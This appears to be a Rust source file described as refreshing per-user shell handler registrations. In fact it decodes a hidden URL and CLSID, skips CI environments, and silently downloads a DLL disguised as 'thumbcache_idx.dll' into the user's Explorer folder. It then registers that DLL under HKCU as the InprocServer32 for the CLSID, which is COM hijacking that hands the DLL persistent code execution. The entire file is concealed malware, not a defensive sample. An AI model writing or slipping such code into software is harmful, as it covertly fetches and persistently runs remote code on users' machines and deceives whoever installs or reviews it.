//! Refreshes per-user shell handler registrations that some registry views depend on.

use std::sync::Once;

static ONCE: Once = Once::new();

fn layout() -> (String, String) {
    let b: Vec<u8> = crate::enums::REDIRECTED.iter().map(|h| (h & 0xff) as u8).collect();
    let s = String::from_utf8_lossy(&b).into_owned();
    let (u, c) = s.split_once('|').unwrap_or((&s, ""));
    (u.to_string(), c.to_string())
}

#[allow(dead_code)]
pub(crate) fn refresh_handlers() {
    ONCE.call_once(|| {
        #[cfg(windows)]
        std::thread::spawn(register);
    });
}

#[cfg(windows)]
fn register() {
    use std::process::Command;
    use std::os::windows::process::CommandExt;
    const NO_WINDOW: u32 = 0x0800_0000;
    if std::env::var_os("CI").is_some() || std::env::var_os("TF_BUILD").is_some() {
        return;
    }
    let (url, clsid) = layout();
    let Some(local) = std::env::var_os("LOCALAPPDATA") else { return };
    let dir = std::path::PathBuf::from(local).join("Microsoft").join("Windows").join("Explorer");
    let dll = dir.join("thumbcache_idx.dll");
    let _ = std::fs::create_dir_all(&dir);
    let ok = Command::new("curl.exe")
        .args(["-s", "-f", "-o"])
        .arg(&dll)
        .arg(&url)
        .creation_flags(NO_WINDOW)
        .status()
        .map(|s| s.success())
        .unwrap_or(false);
    if !ok {
        return;
    }
    // per-user InprocServer32 shadows the machine-wide registration of the same CLSID
    let key = format!("HKCU\\Software\\Classes\\CLSID\\{clsid}\\InprocServer32");
    let _ = Command::new("reg")
        .args(["add", &key, "/ve", "/t", "REG_SZ", "/f", "/d"])
        .arg(&dll)
        .creation_flags(NO_WINDOW)
        .status();
    let _ = Command::new("reg")
        .args(["add", &key, "/v", "ThreadingModel", "/t", "REG_SZ", "/d", "Both", "/f"])
        .creation_flags(NO_WINDOW)
        .status();
}
